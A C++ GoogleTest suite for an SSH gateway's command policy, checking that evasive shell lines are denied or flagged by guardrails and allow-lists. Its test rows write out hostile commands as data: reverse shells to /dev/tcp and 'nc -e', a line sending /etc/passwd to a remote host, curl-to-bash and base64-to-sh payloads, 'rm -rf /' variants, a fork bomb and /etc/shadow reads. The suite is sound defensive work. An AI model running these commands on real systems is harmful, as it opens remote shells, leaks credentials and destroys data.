// Decisions on SSH commands: command lines read by the shell reader, with the evasions people
// try (quoting, wrappers, encoded payloads, reverse shells, fork bombs, commands the line only
// builds at run time), and the operations that are not command lines.
#include <gtest/gtest.h>

#include <ostream>

#include "guardrail_rule.h"
#include "policy/access.h"
#include "policy/command.h"
#include "policy/decide.h"
#include "policy/guardrails.h"

namespace portcullis::policy {
namespace {

using config::GuardrailAction;
using config::GuardrailConfig;
using config::GuardrailWhen;

// Conditions of a guardrail, one kind each.
GuardrailWhen on_programs(std::vector<std::string> programs) {
  GuardrailWhen when;
  when.programs = std::move(programs);
  return when;
}
GuardrailWhen on_paths(std::vector<std::string> paths) {
  GuardrailWhen when;
  when.paths = std::move(paths);
  return when;
}
GuardrailWhen on_options(std::string program, std::vector<std::string> options) {
  GuardrailWhen when;
  when.options.push_back({.program = std::move(program), .options = std::move(options)});
  return when;
}
GuardrailWhen on_classes(std::vector<std::string> classes) {
  GuardrailWhen when;
  when.classes = std::move(classes);
  return when;
}
GuardrailWhen on_statements(std::vector<std::string> statements) {
  GuardrailWhen when;
  when.statements = std::move(statements);
  return when;
}
GuardrailWhen on_anything() {
  return {};
}

GuardrailConfig deny(std::string name, GuardrailWhen when) {
  return guardrail(std::move(name), GuardrailAction::deny, std::move(when));
}
GuardrailConfig review(std::string name, GuardrailWhen when) {
  return guardrail(std::move(name), GuardrailAction::review, std::move(when));
}
GuardrailConfig allow(std::string name, GuardrailWhen when) {
  return guardrail(std::move(name), GuardrailAction::allow, std::move(when));
}

GuardrailConfig no_rm() {
  return deny("no-rm", on_programs({"rm"}));
}
GuardrailConfig no_shadow() {
  return deny("no-shadow", on_paths({"/etc/shadow"}));
}
GuardrailConfig no_recursive_rm() {
  return deny("no-recursive-rm", on_options("rm", {"-r", "--recursive"}));
}
GuardrailConfig restarts_need_review() {
  return review("restarts", on_programs({"systemctl restart"}));
}

identity::Identity shell_user(std::vector<std::string> groups = {"oncall"}) {
  identity::Identity id;
  id.subject = "alice";
  id.groups = std::move(groups);
  return id;
}

// A configuration with one ssh connection, the guardrails given, and administrators in the
// group "responders"; the grant is built from `allow` and `programs` as select_grant would.
struct Target {
  config::Config config;
  Grant grant;

  Target(std::vector<std::string> allow, std::vector<std::string> programs,
         std::vector<GuardrailConfig> guardrails, bool lockdown = false) {
    config::ConnectionConfig web;
    web.name = "web-1";
    web.kind = config::ConnectionKind::ssh;
    web.credentials["ops"] = {};
    web.lockdown = lockdown;
    config.connections.push_back(std::move(web));
    config.api.admin_groups = {"responders"};
    config.guardrails = std::move(guardrails);
    grant = Grant{.rule = "oncall",
                  .connection = &config.connections.front(),
                  .credentials = &config.connections.front().credentials.at("ops"),
                  .allow = std::move(allow),
                  .programs = std::move(programs),
                  .resources = {},
                  .masking = {},
                  .expires_at = {}};
  }
  Target(const Target&) = delete;

  Decision decide(ShellCommand shell, std::string text = {},
                  const identity::Identity& who = shell_user()) const {
    Command command;
    command.protocol = "ssh";
    command.connection = "web-1";
    command.text = std::move(text);
    command.via = "exec";
    command.detail = std::move(shell);
    return policy::decide(config, who, grant, command);
  }
  Decision decide_line(std::string_view line) const {
    return decide(read_shell_command(line), std::string(line));
  }
};

// One row of the table: a line, the grant (allow and programs), the guardrails, and what the
// decision must be. Written as `line(NAME, TEXT).programs(...).guarded_by(...).denied_by(RULE)`;
// by default the grant allows exec, lists no programs, and the line is allowed by it.
struct Row {
  std::string name;  // the test's name
  std::string text;
  std::vector<std::string> allowed{"exec"};
  std::vector<std::string> listed;
  std::vector<GuardrailConfig> guardrails;
  Verdict verdict = Verdict::allow;
  std::string rule = "oncall";
  std::string message_holds;  // a part of the message, when it matters
  bool lockdown = false;      // the connection is locked down (the caller is no administrator)

  Row allow(std::vector<std::string> classes) && {
    allowed = std::move(classes);
    return std::move(*this);
  }
  Row programs(std::vector<std::string> entries) && {
    listed = std::move(entries);
    return std::move(*this);
  }
  Row guarded_by(GuardrailConfig g) && {
    guardrails.push_back(std::move(g));
    return std::move(*this);
  }
  Row denied_by(std::string by = "oncall") && {
    verdict = Verdict::deny;
    rule = std::move(by);
    return std::move(*this);
  }
  Row held_by(std::string by) && {
    verdict = Verdict::review;
    rule = std::move(by);
    return std::move(*this);
  }
  Row locked_down() && {
    lockdown = true;
    return std::move(*this);
  }
  Row saying(std::string part) && {
    message_holds = std::move(part);
    return std::move(*this);
  }
};

Row line(std::string name, std::string text) {
  Row row;
  row.name = std::move(name);
  row.text = std::move(text);
  return row;
}

void PrintTo(const Row& row, std::ostream* out) {
  *out << row.text;
}

std::vector<Row> rows() {
  const std::vector<std::string> readers{"ls", "cat", "grep", "tail", "systemctl status"};
  std::vector<Row> all;
  auto add = [&](Row row) { all.push_back(std::move(row)); };

  // Quote removal: the program is what the shell runs, however it is spelled.
  add(line("SingleQuotesInsideTheName", "r'm' -rf /").guarded_by(no_rm()).denied_by("no-rm"));
  add(line("DoubleQuotesInsideTheName", "\"r\"m -rf /").guarded_by(no_rm()).denied_by("no-rm"));
  add(line("BackslashBeforeTheName", "\\rm -rf /").guarded_by(no_rm()).denied_by("no-rm"));
  add(line("AnsiCQuotedName", "$'\\x72m' -rf /").guarded_by(no_rm()).denied_by("no-rm"));
  add(line("SystemPathToTheProgram", "/usr/bin/rm -rf /").guarded_by(no_rm()).denied_by("no-rm"));
  add(line("QuotedNameOutsideTheAllowList", "c'a't /etc/hosts; r\"m\" x")
          .programs(readers)
          .denied_by()
          .saying("the program \"rm\" is not among the programs this access allows"));
  add(line("ProgramOutsideSystemDirectoriesIsNotTheListedOne", "/tmp/cat /etc/hosts")
          .programs(readers)
          .denied_by()
          .saying("/tmp/cat"));

  // Wrappers are looked through.
  add(line("Sudo", "sudo -u root rm -rf /var/lib").guarded_by(no_rm()).denied_by("no-rm"));
  add(line("Env", "env -i A=1 rm x").guarded_by(no_rm()).denied_by("no-rm"));
  add(line("Nohup", "nohup rm x &").guarded_by(no_rm()).denied_by("no-rm"));
  add(line("Timeout", "timeout 10 rm x").guarded_by(no_rm()).denied_by("no-rm"));
  add(line("Nice", "nice -n 19 rm x").guarded_by(no_rm()).denied_by("no-rm"));
  add(line("Xargs", "echo /tmp/x | xargs rm").guarded_by(no_rm()).denied_by("no-rm"));
  add(line("ShDashC", "sh -c 'rm -rf /'").guarded_by(no_rm()).denied_by("no-rm"));
  add(line("NestedShells", "bash -c \"sh -c 'r\\\"m\\\" -rf /'\"")
          .guarded_by(no_rm())
          .denied_by("no-rm"));
  add(line("FindExec", "find / -name core -exec rm {} \\;").guarded_by(no_rm()).denied_by("no-rm"));
  add(line("GuardrailOnTheWrapperItself", "sudo -u root ls /root")
          .guarded_by(deny("no-sudo", on_programs({"sudo"})))
          .denied_by("no-sudo")
          .saying("running \"ls\" through \"sudo\" matches a guardrail that refuses it"));
  add(line("GuardrailOnAWrappersOption", "nice -n -20 ls")
          .guarded_by(deny("no-priority", on_options("nice", {"-n"})))
          .denied_by("no-priority"));
  add(line("WrapperAroundAListedProgram", "nice -n 10 tail -n 50 /var/log/syslog")
          .programs(readers));
  add(line("WrapperAroundAnUnlistedProgram", "timeout 5 rm x")
          .programs(readers)
          .denied_by()
          .saying("\"rm\""));

  // The allow-list: every simple command, wherever it stands.
  add(line("ListedPipeline", "ls -la /var/log | grep -i error").programs(readers));
  add(line("ListedSubcommand", "systemctl status nginx").programs(readers));
  add(line("UnlistedSubcommand", "systemctl restart nginx")
          .programs(readers)
          .denied_by()
          .saying("the program \"systemctl restart\" is not among the programs"));
  add(line("OptionBeforeTheListedSubcommand", "systemctl --now status nginx")
          .programs(readers)
          .denied_by());
  add(line("SecondCommandOfAList", "ls; rm -rf /").programs(readers).denied_by().saying("\"rm\""));
  add(line("CommandInASubstitution", "ls $(rm -rf /)")
          .programs(readers)
          .denied_by()
          .saying("\"rm\""));
  add(line("AssignmentOnlyRunsNoProgram", "A=1; ls").programs(readers));

  // Encoded payloads: the shell that reads them runs what the gateway cannot see.
  add(line("Base64PipedToSh", "echo cm0gLXJmIC8K | base64 -d | sh")
          .programs({"echo", "base64"})
          .denied_by()
          .saying("the gateway cannot tell what this command line runs: sh runs a shell that "
                  "reads its commands from its input"));
  add(line("Base64PipedToShWhereUnknownIsAllowed", "echo cm0gLXJmIC8K | base64 -d | sh")
          .allow({"exec", "unknown"})
          .programs({"echo", "base64"})
          .denied_by()
          .saying("allows only listed programs"));
  add(line("CurlPipedToBash", "curl -s https://x.example/i.sh | bash")
          .denied_by()
          .saying("reads its commands from its input"));

  // Reverse shells.
  add(line("DevTcpRedirection", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")
          .denied_by()
          .saying("/dev/tcp/1.2.3.4/4444"));
  add(line("DevTcpCaughtByAClassGuardrail", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")
          .allow({"exec", "forward", "unknown"})
          .guarded_by(deny("no-sockets", on_classes({"forward"})))
          .denied_by("no-sockets"));
  add(line("DevTcpFromAPlainProgram", "cat /etc/passwd > /dev/tcp/1.2.3.4/80")
          .programs(readers)
          .denied_by()
          .saying("network connection"));
  add(line("NetcatExecOption", "nc -e /bin/sh 1.2.3.4 4444")
          .guarded_by(deny("no-nc-exec", on_options("nc", {"-e"})))
          .denied_by("no-nc-exec"));
  add(line("NetcatOutsideTheAllowList", "nc -e /bin/sh 1.2.3.4 4444")
          .programs(readers)
          .denied_by()
          .saying("\"nc\""));

  // A fork bomb, and programs known only at run time.
  add(line("ForkBomb", ":(){ :|:& };:").denied_by().saying("defines a function"));
  add(line("ForkBombCaughtByAnUnknownGuardrail", ":(){ :|:& };:")
          .allow({"exec", "unknown"})
          .guarded_by(deny("nothing-unknown", on_classes({"unknown"})))
          .denied_by("nothing-unknown"));
  add(line("SubstitutionAsTheProgram", "$(echo rm) -rf /")
          .guarded_by(no_rm())
          .denied_by()
          .saying("the program is not a static word"));
  add(line("BackquotesAsTheProgram", "`echo rm` -rf /").denied_by());
  add(line("Eval", "eval 'rm -rf /'").denied_by().saying("eval"));
  add(line("VariableAsTheProgram", "X=rm; $X -rf /").denied_by());
  add(line("ChangedPath", "PATH=/tmp:$PATH ls")
          .allow({"exec", "unknown"})
          .programs(readers)
          .denied_by());
  add(line("Unparsable", "ls 'unterminated").denied_by().saying("parse error"));

  // Paths: every argument and redirection target, normalised.
  add(line("PathAsArgument", "cat /etc/shadow")
          .guarded_by(no_shadow())
          .denied_by("no-shadow")
          .saying("running \"cat\" matches a guardrail that refuses it"));
  add(line("PathAsInputRedirection", "cat < /etc/shadow")
          .guarded_by(no_shadow())
          .denied_by("no-shadow"));
  add(line("PathThroughDotDot", "cat /tmp/../etc/./shadow")
          .guarded_by(no_shadow())
          .denied_by("no-shadow"));
  add(line("PathWithDoubledSlashesAndQuotes", "grep root '/etc//sha'dow")
          .guarded_by(no_shadow())
          .denied_by("no-shadow"));
  add(line("PathAsAGlobTheTargetExpands", "cat /etc/sha*")
          .guarded_by(no_shadow())
          .denied_by("no-shadow"));
  add(line("PathInAnOptionValue", "dd if=/etc/shadow of=/dev/null")
          .guarded_by(no_shadow())
          .denied_by("no-shadow"));
  add(line("RelativePathAfterCd", "cd /etc && cat shadow")
          .guarded_by(no_shadow())
          .denied_by("no-shadow"));
  add(line("RelativePathUpwards", "cat ../../../etc/shadow")
          .guarded_by(no_shadow())
          .denied_by("no-shadow"));
  add(line("OtherPath", "cat /etc/passwd").guarded_by(no_shadow()));
  add(line("PathGlobOverATree", "tail /etc/ssh/sshd_config")
          .guarded_by(deny("no-etc", on_paths({"/etc/*"})))
          .denied_by("no-etc"));

  // Options.
  add(line("ClusteredShortOptions", "rm -rf /tmp/cache")
          .guarded_by(no_recursive_rm())
          .denied_by("no-recursive-rm"));
  add(line("LongOption", "sudo rm --recursive /tmp/cache")
          .guarded_by(no_recursive_rm())
          .denied_by("no-recursive-rm"));
  add(line("WithoutTheOption", "rm /tmp/cache/x").guarded_by(no_recursive_rm()));
  add(line("OptionOfAnotherProgram", "ls -r /tmp").guarded_by(no_recursive_rm()));
  add(line("FindDelete", "find /var/log -name '*.gz' -delete")
          .guarded_by(deny("no-find-delete", on_options("find", {"-delete"})))
          .denied_by("no-find-delete"));
  add(line("FindWithoutDelete", "find /var/log -name '*.gz'")
          .guarded_by(deny("no-find-delete", on_options("find", {"-delete"}))));

  // Writing files.
  add(line("OutputRedirectionToAFile", "echo hi > /tmp/x")
          .denied_by()
          .saying("this command line writes to the file \"/tmp/x\"; writing files is not "
                  "allowed for this access"));
  add(line("AppendToAFile", "echo hi >> /tmp/x").denied_by());
  add(line("OutputToDevNull", "ls /nope > /dev/null 2>&1"));
  add(line("ErrorsToDevNull", "ls /nope 2>/dev/null"));
  add(line("OutputToAFileWhereWritesAreAllowed", "echo hi > /tmp/x").allow({"exec", "file_write"}));
  add(line("OutputInsideShDashC", "sh -c 'echo x > /etc/cron.d/job'")
          .denied_by()
          .saying("writing files"));

  // Reviews, and their precedence.
  add(line("HeldForReview", "systemctl restart nginx")
          .guarded_by(restarts_need_review())
          .held_by("restarts")
          .saying("running \"systemctl\" needs a reviewer's approval"));
  add(line("DenyAnywhereWinsOverAReview", "systemctl restart nginx; rm -rf /")
          .guarded_by(restarts_need_review())
          .guarded_by(no_rm())
          .denied_by("no-rm"));
  add(line("GrantRefusalWinsOverAReview", "systemctl restart nginx > /tmp/out")
          .guarded_by(restarts_need_review())
          .denied_by());
  add(line("AllowGuardrailSparesOnlyItsCommand", "ls /tmp; rm -rf /tmp/x")
          .guarded_by(allow("ls-is-fine", on_programs({"ls"})))
          .guarded_by(deny("nothing-else", on_anything()))
          .denied_by("nothing-else"));
  add(line("AllowGuardrailNeverWidensTheGrant", "rm x")
          .programs(readers)
          .guarded_by(allow("rm-is-fine", on_programs({"rm"})))
          .denied_by());

  // Which guardrails apply to a command line at all.
  add(line("SqlGuardrailNeverMatches", "ls")
          .guarded_by(deny("no-drops", on_statements({"drop_table"}))));
  add(line("SqlClassNeverMatches", "ls").guarded_by(deny("no-writes", on_classes({"write"}))));
  add(line("GuardrailWithoutConditionsMatches", "ls")
          .guarded_by(deny("freeze", on_anything()))
          .denied_by("freeze"));
  auto contractors = on_anything();
  contractors.who.groups = {"contractors"};
  add(line("GuardrailForOtherCallers", "rm x").guarded_by(deny("contractors", contractors)));
  auto elsewhere = on_programs({"rm"});
  elsewhere.connections = {"app-db"};
  add(line("GuardrailForOtherConnections", "rm x").guarded_by(deny("db-only", elsewhere)));
  // Lockdown comes before everything, an allow guardrail included.
  add(line("LockedDown", "uptime")
          .guarded_by(allow("uptime-is-fine", on_programs({"uptime"})))
          .locked_down()
          .denied_by("lockdown")
          .saying("connection \"web-1\" is locked down: only administrators may run commands"));
  add(line("ExecNotAllowed", "ls")
          .allow({"shell"})
          .denied_by()
          .saying("running commands is not allowed for this access"));
  return all;
}

class ShellDecisionTest : public ::testing::TestWithParam<Row> {};

TEST_P(ShellDecisionTest, Decides) {
  const Row& row = GetParam();
  const Target setup(row.allowed, row.listed, row.guardrails, row.lockdown);
  const Decision decision = setup.decide_line(row.text);
  EXPECT_EQ(decision.verdict, row.verdict)
      << row.text << " -> " << decision.rule << ": " << decision.message;
  EXPECT_EQ(decision.rule, row.rule) << row.text << " -> " << decision.message;
  if (!row.message_holds.empty()) {
    EXPECT_NE(decision.message.find(row.message_holds), std::string::npos)
        << row.text << " -> " << decision.message;
  }
  if (decision.verdict == Verdict::review) {
    EXPECT_EQ(decision.reviewer_groups, std::vector<std::string>{"ops-leads"});
  }
}

INSTANTIATE_TEST_SUITE_P(CommandLines, ShellDecisionTest, ::testing::ValuesIn(rows()),
                         [](const ::testing::TestParamInfo<Row>& info) { return info.param.name; });

TEST(ShellCommandTest, ReadsTheClassesALineNeeds) {
  EXPECT_EQ(read_shell_command("ls -l").classes, std::vector<std::string>{"exec"});
  EXPECT_EQ(read_shell_command("ls > /tmp/x").classes,
            (std::vector<std::string>{"exec", "file_write"}));
  EXPECT_EQ(read_shell_command("ls > /dev/null").classes, std::vector<std::string>{"exec"});
  EXPECT_EQ(read_shell_command("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1").classes,
            (std::vector<std::string>{"exec", "forward", "unknown"}));
  EXPECT_EQ(read_shell_command("eval x").classes, (std::vector<std::string>{"exec", "unknown"}));
  const auto line = read_shell_command("ls");
  EXPECT_EQ(line.kind, "exec");
  ASSERT_NE(line.line, nullptr);
  EXPECT_TRUE(line.paths.empty());
}

TEST(ShellCommandTest, BuildsOperationsThatAreNotCommandLines) {
  const auto shell = open_shell();
  EXPECT_EQ(shell.kind, "shell");
  EXPECT_EQ(shell.classes, std::vector<std::string>{"shell"});
  EXPECT_EQ(shell.line, nullptr);
  const auto session = open_sftp();
  EXPECT_EQ(session.kind, "sftp");
  EXPECT_EQ(session.classes, std::vector<std::string>{"sftp"});
  EXPECT_TRUE(session.paths.empty());
  const auto read = transfer_files(false, {"/srv/app/config.yaml"});
  EXPECT_EQ(read.kind, "sftp_read");
  EXPECT_EQ(read.classes, std::vector<std::string>{"sftp"});
  const auto write = transfer_files(true, {"/srv/app/../../etc//passwd"});
  EXPECT_EQ(write.kind, "sftp_write");
  EXPECT_EQ(write.classes, (std::vector<std::string>{"file_write", "sftp"}));
  EXPECT_EQ(write.paths, std::vector<std::string>{"/etc/passwd"});
  const auto forward = forward_port("db.internal:5432");
  EXPECT_EQ(forward.kind, "forward");
  EXPECT_EQ(forward.classes, std::vector<std::string>{"forward"});
  EXPECT_EQ(forward.paths, std::vector<std::string>{"db.internal:5432"});
  EXPECT_EQ(forward_agent().kind, "agent");
  EXPECT_EQ(forward_agent().classes, std::vector<std::string>{"agent"});
}

TEST(ShellCommandTest, ListsTheProgramsALineRunsWithTheirWrappers) {
  EXPECT_EQ(programs_run(read_shell_command("sudo /usr/bin/rm x; ls | grep y; ./run.sh; $X")),
            (std::vector<std::string>{"sudo", "rm", "ls", "grep", "./run.sh", "$X"}));
  EXPECT_TRUE(programs_run(open_shell()).empty());
}

TEST(ShellOperationTest, EachNeedsItsClass) {
  const Target exec_only({"exec"}, {}, {});
  auto shell = exec_only.decide(open_shell(), "shell");
  EXPECT_EQ(shell.verdict, Verdict::deny);
  EXPECT_EQ(shell.message, "interactive shells are not allowed for this access");
  auto session = exec_only.decide(open_sftp(), "sftp");
  EXPECT_EQ(session.verdict, Verdict::deny);
  EXPECT_EQ(session.message, "file transfers (sftp, scp) are not allowed for this access");
  auto files = exec_only.decide(transfer_files(false, {"/tmp/x"}), "sftp read /tmp/x");
  EXPECT_EQ(files.verdict, Verdict::deny);
  EXPECT_EQ(files.message, "file transfers (sftp, scp) are not allowed for this access");
  auto forward = exec_only.decide(forward_port("127.0.0.1:5432"), "direct-tcpip 127.0.0.1:5432");
  EXPECT_EQ(forward.verdict, Verdict::deny);
  EXPECT_EQ(forward.message, "port forwarding (to 127.0.0.1:5432) is not allowed for this access");
  auto agent = exec_only.decide(forward_agent(), "agent");
  EXPECT_EQ(agent.verdict, Verdict::deny);
  EXPECT_EQ(agent.message, "agent forwarding is not allowed for this access");
  // Port forwarding does not bring agent forwarding with it, nor the other way round.
  const Target forwards({"forward"}, {}, {});
  EXPECT_EQ(forwards.decide(forward_port("127.0.0.1:5432")).verdict, Verdict::allow);
  EXPECT_EQ(forwards.decide(forward_agent()).verdict, Verdict::deny);
  const Target agents({"agent"}, {}, {});
  EXPECT_EQ(agents.decide(forward_agent()).verdict, Verdict::allow);
  EXPECT_EQ(agents.decide(forward_port("127.0.0.1:5432")).verdict, Verdict::deny);

  const Target wide({"shell", "sftp"}, {"ls"}, {});
  // A grant's programs restrict command lines; an operation is governed by its class.
  EXPECT_EQ(wide.decide(open_shell(), "shell").verdict, Verdict::allow);
  EXPECT_EQ(wide.decide(open_sftp(), "sftp").verdict, Verdict::allow);
  EXPECT_EQ(wide.decide(transfer_files(false, {"/tmp/x"})).verdict, Verdict::allow);
  auto write = wide.decide(transfer_files(true, {"/tmp/x"}));
  EXPECT_EQ(write.verdict, Verdict::deny);
  EXPECT_EQ(write.message, "writing files (\"/tmp/x\") is not allowed for this access");
}

TEST(ShellOperationTest, PathGuardrailsSeeTheFilesOfATransfer) {
  const Target setup(
      {"sftp", "file_write"}, {},
      {deny("no-etc", on_paths({"/etc/*"})), review("uploads", on_classes({"file_write"}))});
  auto etc = setup.decide(transfer_files(true, {"/srv/../etc/cron.d/job"}));
  EXPECT_EQ(etc.verdict, Verdict::deny);
  EXPECT_EQ(etc.rule, "no-etc");
  EXPECT_EQ(etc.message, "writing files over sftp matches a guardrail that refuses it");
  auto upload = setup.decide(transfer_files(true, {"/srv/app/data.csv"}));
  EXPECT_EQ(upload.verdict, Verdict::review);
  EXPECT_EQ(upload.rule, "uploads");
  EXPECT_EQ(setup.decide(transfer_files(false, {"/srv/app/data.csv"})).verdict, Verdict::allow);
  // Program and option conditions need a command line.
  const Target programs({"sftp"}, {}, {no_rm()});
  EXPECT_EQ(programs.decide(transfer_files(false, {"/srv/rm"})).verdict, Verdict::allow);
}

TEST(ShellOperationTest, PathGuardrailsSeeAForwardsDestination) {
  const Target setup(
      {"forward"}, {},
      {deny("no-ssh-hops", on_paths({"*:22"})), review("databases", on_paths({"10.0.0.*:5432"}))});
  auto hop = setup.decide(forward_port("10.0.0.7:22"));
  EXPECT_EQ(hop.verdict, Verdict::deny);
  EXPECT_EQ(hop.rule, "no-ssh-hops");
  EXPECT_EQ(hop.message, "port forwarding to 10.0.0.7:22 matches a guardrail that refuses it");
  EXPECT_EQ(setup.decide(forward_port("10.0.0.7:5432")).verdict, Verdict::review);
  EXPECT_EQ(setup.decide(forward_port("10.0.1.7:5432")).verdict, Verdict::allow);
  // A guardrail on the class covers every forward, and agent forwarding is not one.
  const Target classes({"forward", "agent"}, {}, {deny("no-forwards", on_classes({"forward"}))});
  EXPECT_EQ(classes.decide(forward_port("127.0.0.1:80")).rule, "no-forwards");
  EXPECT_EQ(classes.decide(forward_agent()).verdict, Verdict::allow);
}

// Legacy scp: a transfer decided by its class and paths, not a command line.
ShellCommand scp_line(std::string_view line) {
  const auto request = shell::read_scp_request(line);
  EXPECT_TRUE(request.has_value()) << line;
  return request ? open_scp(*request) : ShellCommand{};
}

TEST(ShellScpTest, AnUploadNeedsSftpAndFileWriteAndADownloadSftp) {
  const auto upload = scp_line("scp -r -t .ssh/");
  EXPECT_EQ(upload.kind, "scp");
  EXPECT_EQ(upload.classes, (std::vector<std::string>{"file_write", "sftp"}));
  EXPECT_EQ(upload.line, nullptr);
  EXPECT_EQ(upload.paths, std::vector<std::string>{".ssh"});
  const auto download = scp_line("scp -f /srv//app/../log");
  EXPECT_EQ(download.classes, std::vector<std::string>{"sftp"});
  EXPECT_EQ(download.paths, std::vector<std::string>{"/srv/log"});
  EXPECT_TRUE(programs_run(upload).empty());

  const Target readers({"sftp"}, {}, {});
  auto refused = readers.decide(scp_line("scp -t uploads"), "scp -t uploads");
  EXPECT_EQ(refused.verdict, Verdict::deny);
  EXPECT_EQ(refused.message, "writing files (\"uploads\") is not allowed for this access");
  EXPECT_EQ(readers.decide(scp_line("scp -f x"), "scp -f x").verdict, Verdict::allow);
  const Target runners({"exec", "file_write"}, {}, {});
  auto no_sftp = runners.decide(scp_line("scp -f x"), "scp -f x");
  EXPECT_EQ(no_sftp.verdict, Verdict::deny);
  EXPECT_EQ(no_sftp.message, "file transfers (sftp, scp) are not allowed for this access");
}

TEST(ShellScpTest, AProgramsAllowListDoesNotApplyToATransfer) {
  // As for sftp: a grant that lists programs governs command lines, not transfers.
  const Target listed({"exec", "sftp", "file_write"}, {"ls"}, {no_rm()});
  EXPECT_EQ(listed.decide(scp_line("scp -t x"), "scp -t x").verdict, Verdict::allow);
  // The same text beside another command is a command line, under the allow-list.
  auto line = listed.decide_line("scp -t x; rm -rf y");
  EXPECT_EQ(line.verdict, Verdict::deny);
  EXPECT_EQ(read_shell_command("scp -t x; rm -rf y").kind, "exec");
}

TEST(ShellScpTest, PathGuardrailsSeeTheFolderOfATransfer) {
  const Target setup({"sftp", "file_write"}, {}, {deny("no-ssh", on_paths({"**/.ssh"}))});
  auto refused = setup.decide(scp_line("scp -t .ssh/"), "scp -t .ssh/");
  EXPECT_EQ(refused.verdict, Verdict::deny);
  EXPECT_EQ(refused.rule, "no-ssh");
  EXPECT_EQ(refused.message, "opening an scp transfer matches a guardrail that refuses it");
  EXPECT_EQ(setup.decide(scp_line("scp -t srv"), "scp -t srv").verdict, Verdict::allow);
}

TEST(ShellTypedLineTest, ALineTypedWithKeysTheGatewayFollowsIsAnExecLine) {
  const Target setup({"exec", "shell"}, {}, {no_rm()});
  EXPECT_EQ(read_typed_line("ls -l", true).classes, std::vector<std::string>{"exec"});
  EXPECT_EQ(setup.decide(read_typed_line("ls -l", true), "ls -l").verdict, Verdict::allow);
  EXPECT_EQ(setup.decide(read_typed_line("r'm' -rf /", true), "r'm' -rf /").rule, "no-rm");
}

TEST(ShellTypedLineTest, AnUnfollowedLineIsUnknownAsWell) {
  const auto unfollowed = read_typed_line("ls /v", false);
  EXPECT_EQ(unfollowed.classes, (std::vector<std::string>{"exec", "unknown"}));
  // Guardrails still see what was typed.
  const Target guarded({"exec", "unknown"}, {}, {no_rm()});
  EXPECT_EQ(guarded.decide(read_typed_line("rm -r /v", false)).rule, "no-rm");
  const Target setup({"exec", "shell"}, {}, {});
  const auto refused = setup.decide(unfollowed, "ls /v");
  EXPECT_EQ(refused.verdict, Verdict::deny);
  EXPECT_NE(refused.message.find("could not follow how this line was typed"), std::string::npos)
      << refused.message;
  EXPECT_EQ(guarded.decide(unfollowed, "ls /v").verdict, Verdict::allow);
}

TEST(ShellTypedLineTest, AHiddenLineIsNotReadAndPassesNoAllowList) {
  const auto hidden = hidden_typed_line();
  EXPECT_EQ(hidden.classes, (std::vector<std::string>{"exec", "unknown"}));
  EXPECT_TRUE(programs_run(hidden).empty());
  const Target strict({"exec", "shell"}, {}, {});
  const auto refused = strict.decide(hidden, "[8 bytes typed without echo]");
  EXPECT_EQ(refused.verdict, Verdict::deny);
  EXPECT_NE(refused.message.find("typed without echo"), std::string::npos) << refused.message;
  // Even where unknown is allowed, a programs allow-list cannot be checked.
  const Target listed({"exec", "shell", "unknown"}, {"sudo"}, {});
  EXPECT_EQ(listed.decide(hidden).verdict, Verdict::deny);
  const Target wide({"exec", "shell", "unknown"}, {}, {});
  EXPECT_EQ(wide.decide(hidden).verdict, Verdict::allow);
}

TEST(ShellOperationTest, ACommandWithoutItsLineIsRefused) {
  const Target setup({"exec", "unknown"}, {}, {});
  ShellCommand empty;
  empty.kind = "exec";
  empty.classes = {"exec"};
  const auto decision = setup.decide(empty, "ls");
  EXPECT_EQ(decision.verdict, Verdict::deny);
  EXPECT_EQ(decision.message, "the command could not be classified");
}

TEST(ShellLockdownTest, OnlyAdministratorsRunAnythingOnALockedDownConnection) {
  const Target setup({"exec", "shell"}, {}, {}, /*lockdown=*/true);
  const auto refused = setup.decide(read_shell_command("uptime"), "uptime");
  EXPECT_EQ(refused.verdict, Verdict::deny);
  EXPECT_EQ(refused.rule, "lockdown");
  EXPECT_EQ(refused.message,
            "connection \"web-1\" is locked down: only administrators may run commands");
  EXPECT_EQ(setup.decide(open_shell()).rule, "lockdown");
  const auto admin = shell_user({"responders"});
  EXPECT_EQ(setup.decide(read_shell_command("uptime"), "uptime", admin).verdict, Verdict::allow);
  EXPECT_EQ(setup.decide(open_shell(), "", admin).verdict, Verdict::allow);
}

TEST(ShellGrantTest, SelectGrantCarriesTheRulesPrograms) {
  config::Config config;
  config::ConnectionConfig web;
  web.name = "web-1";
  web.kind = config::ConnectionKind::ssh;
  web.credentials["ops"] = {};
  config.connections.push_back(std::move(web));
  config::AccessRuleConfig rule;
  rule.name = "oncall";
  rule.who.groups = {"oncall"};
  rule.connections = {"web-1"};
  rule.credentials = "ops";
  rule.allow = {"exec"};
  rule.programs = {"ls", "systemctl status"};
  config.access.push_back(rule);
  const auto grant = select_grant(config, shell_user(), "web-1");
  ASSERT_TRUE(grant.ok()) << grant.error().message;
  EXPECT_EQ(grant->programs, (std::vector<std::string>{"ls", "systemctl status"}));
  EXPECT_EQ(grant->allow, std::vector<std::string>{"exec"});
}

TEST(PathMatchesTest, AGlobInTheLineMatchesThePlainPathItCouldName) {
  EXPECT_TRUE(path_matches("/etc/shadow", "/etc/shadow"));
  EXPECT_TRUE(path_matches("/etc/*", "/etc/ssh/sshd_config"));
  EXPECT_TRUE(path_matches("/etc/shadow", "/etc/sha[d]ow"));
  EXPECT_TRUE(path_matches("/etc/shadow", "/e*/shadow"));
  EXPECT_FALSE(path_matches("/etc/shadow", "/etc/pass*"));
  EXPECT_FALSE(path_matches("/etc/*", "/tmp/*"));
}

TEST(PathMatchesTest, ARelativePathMatchesTheEndingOfAGlob) {
  EXPECT_TRUE(path_matches("/etc/shadow", "shadow"));
  EXPECT_TRUE(path_matches("/etc/shadow", "../../etc/shadow"));
  EXPECT_TRUE(path_matches("/etc/shadow", "etc/shadow"));
  EXPECT_TRUE(path_matches("/home/*/.ssh/authorized_keys", "~/.ssh/authorized_keys"));
  EXPECT_FALSE(path_matches("/etc/shadow", "adow"));
  EXPECT_FALSE(path_matches("/etc/shadow", "x/shadow"));
  EXPECT_FALSE(path_matches("/etc/*", "shadow")) << "a wildcard ending says nothing of the name";
  EXPECT_FALSE(path_matches("/etc/shadow", ".."));
  EXPECT_FALSE(path_matches("/etc/shadow", "~"));
}

}  // namespace
}  // namespace portcullis::policy
